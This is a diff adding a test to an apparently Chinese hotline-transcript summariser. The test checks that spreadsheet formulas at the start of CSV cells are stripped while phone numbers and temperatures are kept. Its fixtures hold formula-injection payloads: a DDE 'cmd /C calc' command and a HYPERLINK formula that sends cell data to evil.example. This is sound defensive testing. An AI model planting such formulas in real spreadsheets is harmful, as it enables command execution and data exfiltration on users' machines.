@@ -300,3 +300,33 @@ def test_api_vtt_text_body(client):
     assert r.status_code == 200, r.text
     summary = r.json()["summary"]
     assert "09.000" not in summary and "<v" not in summary and "-->" not in summary, summary
+
+
+def test_a_spreadsheet_formula_in_a_transcript_cell_is_not_read_as_words():
+    from bot.catalog import Catalog
+    from bot.intake.extract import extract
+    from bot.intake.places import PlaceMatcher
+    from bot.settings import ROOT
+
+    turns = ("说话人,内容\n"
+             "市民,\"=cmd|' /C calc'!A0 楼道堆满杂物，一直没人清。电话13812345678\"\n"
+             "话务员,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\") 好的，给您登记\"\n"
+             "市民,=1+2\n"
+             "市民,+cmd|' /C calc'!A0 谢谢\n")
+    t = read_bytes(turns.encode("utf-8"), fmt="csv", name="formula")[0]
+    assert [(turn.speaker_role, turn.text) for turn in t.turns] == [
+        ("caller", "楼道堆满杂物，一直没人清。电话13812345678"), ("operator", "好的，给您登记"),
+        ("caller", "谢谢")]
+    summary = extract(t, PlaceMatcher(Catalog.load(ROOT / "data"))).summary
+    assert summary == "来电人反映：楼道堆满杂物，一直没人清。", summary
+    # one call a row: a leading formula goes; numbers that look like one ("-3度", "+86") stay
+    table = ("id,text\n"
+             "1,\"=cmd|' /C calc'!A0 市民：小区停水两天了，电话13812345678\"\n"
+             "2,-3度了暖气还是不热，电话13812345678\n"
+             "3,\"+86 13812345678 停水了\"\n"
+             "4,=SUM(A1:A3)\n")
+    items = read_bytes(table.encode("utf-8"), fmt="csv", name="rows")
+    assert [i.full_text if isinstance(i, Transcript) else None for i in items] == [
+        "小区停水两天了，电话13812345678", "-3度了暖气还是不热，电话13812345678",
+        "+86 13812345678 停水了", None]
+    assert isinstance(items[3], ReadFailure) and "缺少通话内容" in items[3].error.zh
